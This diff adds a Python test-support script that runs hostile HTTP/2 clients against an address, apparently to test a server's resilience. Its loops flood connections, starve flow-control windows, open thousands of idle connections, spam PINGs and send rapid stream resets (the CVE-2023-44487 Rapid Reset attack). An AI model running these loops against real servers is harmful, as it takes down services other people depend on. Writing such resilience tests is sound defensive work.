@@ -1,0 +1,88 @@
+"""What hostile clients do, each as a process of its own: `python abuse.py KIND ADDRESS`.
+
+A process does it until it is killed. It prints a line once it has begun.
+"""
+
+import os
+import sys
+import time
+from collections.abc import Callable, Mapping
+from contextlib import ExitStack, suppress
+
+from hyperframe.frame import SettingsFrame
+
+from support.raw_http2 import RawHttp2
+
+_CALLS = 256
+
+
+def burst(address: str) -> None:
+    """Eight connections, each with as many calls as it may have, again and again."""
+    while True:
+        with ExitStack() as stack:
+            clients = [stack.enter_context(RawHttp2(address)) for _ in range(8)]
+            for client in clients:
+                client.call(_CALLS)
+            for client in clients:
+                client.read_ends(_CALLS)
+
+
+def unread(address: str) -> None:
+    """Five connections that read no reply."""
+    with ExitStack() as stack:
+        clients = [stack.enter_context(RawHttp2(address, window=0)) for _ in range(5)]
+        while True:
+            for client in clients:
+                with suppress(OSError):
+                    client.call(_CALLS // 8)
+            time.sleep(0.5)
+
+
+def slow(address: str) -> None:
+    """Five connections that read a reply in small pieces."""
+    with ExitStack() as stack:
+        clients = [stack.enter_context(RawHttp2(address, window=7)) for _ in range(5)]
+        while True:
+            for client in clients:
+                with suppress(OSError):
+                    client.call(16)
+                    client.allow(7)
+            time.sleep(0.2)
+
+
+def resets(address: str) -> None:
+    """Calls that are withdrawn as soon as they are made (CVE-2023-44487)."""
+    while True:
+        with suppress(OSError, EOFError), RawHttp2(address) as client:
+            for _ in range(200):
+                client.call(100, reset=True)
+                time.sleep(0.005)
+
+
+def idle(address: str) -> None:
+    """2,500 connections without calls."""
+    with ExitStack() as stack:
+        for _ in range(2500):
+            stack.enter_context(RawHttp2(address))
+        while True:
+            time.sleep(1)
+
+
+def pings(address: str) -> None:
+    """PINGs on connections that come again when they have been closed."""
+    while True:
+        with suppress(OSError, EOFError), RawHttp2(address) as client:
+            client.read_until(SettingsFrame)
+            client.ping(1000)
+            client.read_to_the_end()
+
+
+KINDS: Mapping[str, Callable[[str], None]] = {
+    each.__name__: each for each in (burst, unread, slow, resets, idle, pings)
+}
+
+
+if __name__ == "__main__":
+    os.nice(5)
+    print("begun", flush=True)
+    KINDS[sys.argv[1]](sys.argv[2])
